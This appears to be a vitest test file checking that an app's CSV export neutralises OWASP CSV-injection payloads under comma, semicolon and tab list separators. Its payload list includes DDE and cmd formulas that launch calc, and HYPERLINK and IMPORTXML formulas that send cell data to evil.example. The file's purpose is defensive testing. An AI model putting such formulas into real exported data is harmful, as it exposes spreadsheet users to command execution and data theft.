/**
 * OWASP CSV injection payload families, read back the way a spreadsheet in each locale splits the
 * file (`,` en-US, `;` de/fr/nl, tab when pasted): no field may start a live formula.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvLine, isFormulaLike, neutralizeCell } from '../../../shared/csv-cell';
import { toCsvText } from '../../../renderer/src/features/enrich/export';

// The payload families of https://owasp.org/www-community/attacks/CSV_Injection and common variants.
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\uff1d1+1', // full-width =
  '\uff0bSUM(1)', // full-width +
  '\uff0d2+3', // full-width -
  '\uff20SUM(1)', // full-width @
  '\ufe62SUM(1)', // small +
];
const DELIMITERS = [',', ';', '\t'] as const;

/** What the spreadsheet would do with a field: strip what it ignores, fold width, look at the first character. */
const live = (field: string) => isFormulaLike(field);

function fieldsAs(delimiter: string, text: string): string[] {
  const parsed = Papa.parse<string[]>(text, { delimiter, quoteChar: '"', newline: '\r\n' });
  return parsed.data.flat();
}

describe('exported cells under every list separator', () => {
  for (const delimiter of DELIMITERS) {
    it(`no payload is a live formula when split on ${JSON.stringify(delimiter)}`, () => {
      const cells = PAYLOADS.flatMap((p) => [
        p,
        `x${delimiter}${p}`,
        `x,${p}`,
        `x;${p}`,
        `x\t${p}`,
        `a "b"${delimiter}${p}`,
      ]);
      const text = toCsvText({ headers: ['h', ...PAYLOADS], cells: (row) => row.values }, [
        { jobId: 'j', index: 0, status: 'done', values: cells } as never,
      ]);
      for (const field of fieldsAs(delimiter, text.slice(1))) {
        if (live(field)) throw new Error(`live formula under ${JSON.stringify(delimiter)}: ${JSON.stringify(field)}`);
      }
    });
  }

  for (const delimiter of DELIMITERS) {
    it(`no payload is live even to a reader that splits on ${JSON.stringify(delimiter)} and ignores quotes`, () => {
      const cells = PAYLOADS.flatMap((p) => [
        p,
        `x${delimiter}${p}`,
        `x,${p}`,
        `x;${p}`,
        `x\t${p}`,
        `"${p}`,
        `x${delimiter}"${p}`,
      ]);
      for (const line of csvLine(cells).split(/\r\n|\r|\n/)) {
        for (const piece of line.split(delimiter)) {
          if (live(piece)) throw new Error(`live piece under ${JSON.stringify(delimiter)}: ${JSON.stringify(piece)}`);
        }
      }
    });
  }

  it('x;=1+1 and x<TAB>=1+1 are quoted and their second part neutralised', () => {
    expect(csvLine(['x;=1+1', 'x\t=1+1', 'Acme, Inc.'])).toBe(`"x;'=1+1","x\t'=1+1","Acme, Inc."`);
  });

  it('neutralises after stripping spaces and folding width, keeping the original text', () => {
    expect(neutralizeCell(' =1')).toBe("' =1");
    expect(neutralizeCell('\uff1d1+1')).toBe("'\uff1d1+1");
    expect(neutralizeCell('\u3000@SUM(1)')).toBe("'\u3000@SUM(1)");
  });

  it('phones and plain numbers stay usable', () => {
    for (const phone of ['+49 30 1234', '+1 415 555 0100', '+44 (20) 7946-0958', '-12.5']) {
      expect(neutralizeCell(phone)).toBe(phone);
      expect(csvLine([phone])).toBe(phone);
    }
  });
});
